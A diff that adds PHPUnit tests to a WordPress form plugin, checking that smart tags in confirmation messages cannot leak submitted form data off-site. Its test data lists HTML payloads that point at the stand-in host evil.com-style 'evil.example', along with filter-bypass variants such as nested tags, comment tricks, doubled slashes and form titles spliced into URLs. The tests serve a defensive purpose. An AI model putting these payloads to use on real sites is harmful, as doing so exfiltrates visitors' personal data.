@@ -5,6 +5,7 @@ namespace Quayside\Tests\Blocks\Forms;
 
 require_once __DIR__ . '/FormTestCase.php';
 
+use Quayside\Blocks\Forms\Form;
 use Quayside\Blocks\Forms\Notifications\Confirmation;
 use Quayside\Blocks\Forms\Notifications\SmartTags;
 
@@ -46,6 +47,21 @@ final class ForeignTagsTest extends FormTestCase {
 			'hidden from one parser' => [ '<title><img src="https://evil.example/?{form:name}"></title>', false ],
 			'in a comment'           => [ '<!-- > --><img src="https://evil.example/?{form:name}"><!-- -->', false ],
 			'halves of a tag'        => [ "<img src=\"https://evil.example/?{form:\0name}\">", false ],
+			'a number of this site'  => [ '<a href="/thanks/?id={entry_id}&amp;who={form:name}#top">Go on</a>', true ],
+			'a label'                => [ '<a href="/thanks/" aria-label="Thanks, {form:name}" title="{form:name}">Go on</a>', true ],
+			'all data in a text'     => [ '<img src="/a.png" alt="{all_data}">', true ],
+			'a slash too many'       => [ '<a href="/{form:none}/evil.example/?{form:name}">Go on</a>', false ],
+			'slashes in a path'      => [ '<a href="/x//evil.example/?{form:name}">Go on</a>', false ],
+			'another port'           => [ '<a href="' . preg_replace( '~^(https?://[^/:]+).*~', '$1:1', $home ) . '/?{form:name}">Go on</a>', false ],
+			'nested, all data'       => [ '<p style="background-image:url(https://evil.example/?{fo{all_data}rm:name})">Hi</p>', false ],
+			'nested, this site'      => [ '<a href="/thanks/?{fo{form:none}rm:name}">Go on</a>', false ],
+			'nested twice'           => [ '<img src="https://evil.example/?{f{e{form:none}ntry_id}orm:name}">', false ],
+			'nested, as references'  => [ '<img src="https://evil.example/?&#123;fo{all_data}rm:name&#x7d;">', false ],
+			'two slashes, nested'    => [ '<a href="/{form:none}{form:none}/evil.example/{form:name}">Go on</a>', false ],
+			'a capital element'      => [ 'x<DIV STYLE="background:url(https://evil.example/?{form:name})">Hi</DIV>', false ],
+			'a comment'              => [ '<!-- {form:name} --!> <img src="https://evil.example/?{form:name}"> -->', false ],
+			'all data in a link'     => [ '<a href="/thanks/?{all_data}">Go on</a>', false ],
+			'a quote in an address'  => [ "<blockquote cite='https://evil.example/?{form:name}'>Hi</blockquote>", false ],
 			'a tag in a tag'         => [ '<img src="https://evil.example/?{for{form:name}m:name}">', false ],
 		];
 	}
@@ -58,6 +74,68 @@ final class ForeignTagsTest extends FormTestCase {
 		$name = static fn ( string $html ): bool => str_contains( $html, 'ada-entered' );
 		self::assertSame( $stays, $name( SmartTags::html( $message, $form, self::FIELDS, 7 ) ) );
 		self::assertSame( $stays, $name( (string) self::submit( $form, [ 'name' => 'ada-entered', 'email' => 'ada-entered@example.com' ] )->get_data()['message'] ) );
+	}
+
+	/**
+	 * @return array<string, array{string, string}> Title of the form, and a link.
+	 */
+	public static function substituted_links(): array {
+		return [
+			'a slash'             => [ '/', '<a href="/{form_title}evil.example/?{form:name}">Go on</a>' ],
+			'a backslash'         => [ '\\', '<a href="/{form_title}evil.example/?{form:name}">Go on</a>' ],
+			'the scheme'          => [ 'https:', '<a href="{form_title}//evil.example/?{form:name}">Go on</a>' ],
+			'the whole address'   => [ 'https://evil.example/?', '<a href="{form_title}{form:name}">Go on</a>' ],
+			'the end of the host' => [ '.evil.example', '<a href="{site_url}{form_title}/?{form:name}">Go on</a>' ],
+			'a user name'         => [ '@evil.example', '<a href="{site_url}{form_title}/?{form:name}">Go on</a>' ],
+			'a tag'               => [ '{form:name}', '<img src="https://evil.example/?{form_title}">' ],
+			'the start of a tag'  => [ '{form', '<img src="https://evil.example/?{form_title}:name}">' ],
+			'the end of a style'  => [ 'url(https://evil.example/?', '<p style="background:{form_title}{form:name})">Hi</p>' ],
+		];
+	}
+
+	/**
+	 * @dataProvider substituted_links
+	 */
+	public function test_what_decides_sees_the_finished_value( string $title, string $message ): void {
+		$id = self::form( [], [] )->id();
+		wp_update_post( wp_slash( [ 'ID' => $id, 'post_title' => $title ] ) );
+		$html = SmartTags::html( $message, Form::any( $id ) ?? self::form(), self::FIELDS, 7 );
+		self::assertStringNotContainsString( 'ada-entered', $html );
+		self::assertDoesNotMatchRegularExpression( '/(href|src|style)=/', $html, 'Such an attribute is removed whole.' );
+	}
+
+	public function test_what_was_entered_is_never_read_for_tags(): void {
+		$fields = [ [ 'value' => '{fo{all_data}rm:email} {form:email}' ] + self::FIELDS[0], self::FIELDS[1] ];
+		foreach ( [ '<p>{form:name}</p>', '{all_data}', '<img alt="{form:name}">', '<a href="/x/?{form:name}">x</a>' ] as $message ) {
+			$html = SmartTags::html( $message, self::form(), $fields, 7 );
+			self::assertSame( '{all_data}' === $message ? 1 : 0, substr_count( $html, 'ada-entered@' ), $html );
+		}
+		self::assertSame( '<p>{fo</p>', explode( '<table', SmartTags::html( '<p>{fo</p>{all_data}<p>rm:email}</p>', self::form(), self::FIELDS, 7 ) )[0] );
+	}
+
+	public function test_links_that_lead_to_this_site_or_to_a_value_are_whole(): void {
+		$home   = home_url();
+		$fields = [ [ 'value' => 'Ada & "Bo"/#1' ] + self::FIELDS[0], self::FIELDS[1], [ 'id' => 'u1', 'slug' => 'site', 'type' => 'url', 'label' => 'Site', 'value' => 'https://ada.example/?a=1' ], [ 'id' => 'p1', 'slug' => 'phone', 'type' => 'phone', 'label' => 'Phone', 'value' => '+49 30 123' ] ];
+		foreach ( [
+			'{site_url}'                                   => $home,
+			'{site_url}/thanks/?id={entry_id}'             => "$home/thanks/?id=7",
+			'/thanks/?id={entry_id}&who={form:name}'       => '/thanks/?id=7&who=Ada%20%26%20%22Bo%22%2F%231',
+			"$home/thanks/{form:name}"                     => "$home/thanks/Ada%20%26%20%22Bo%22%2F%231",
+			'mailto:{form:email}'                          => 'mailto:ada-entered@example.com',
+			'mailto:{admin_email}'                         => 'mailto:' . get_option( 'admin_email' ),
+			'tel:{form:phone}'                             => 'tel:+4930123',
+			'https://share.example/?u={site_url}'          => 'https://share.example/?u=' . rawurlencode( $home ),
+			'mailto:me@shop.example?subject={form_title}'  => 'mailto:me@shop.example?subject=Contact',
+			'https://elsewhere.example/a?b=c'              => 'https://elsewhere.example/a?b=c',
+		] as $link => $filled ) {
+			$element = new \WP_HTML_Tag_Processor( SmartTags::html( '<a href="' . esc_attr( $link ) . '">x</a>', self::form(), $fields, 7 ) );
+			self::assertTrue( $element->next_tag( 'a' ) );
+			self::assertSame( $filled, $element->get_attribute( 'href' ), $link );
+		}
+		self::assertStringContainsString( "src=\"$home/logo.png\"", SmartTags::html( '<img src="{site_url}/logo.png">', self::form(), $fields, 7 ) );
+		foreach ( [ 'mailto:{form:name}', 'tel:{form:name}', '{form:name}', '{form:site}' ] as $link ) {
+			self::assertSame( '<a >x</a>', SmartTags::html( "<a href=\"$link\">x</a>", self::form(), $fields, 7 ), $link );
+		}
 	}
 
 	public function test_redirects_take_no_tags(): void {
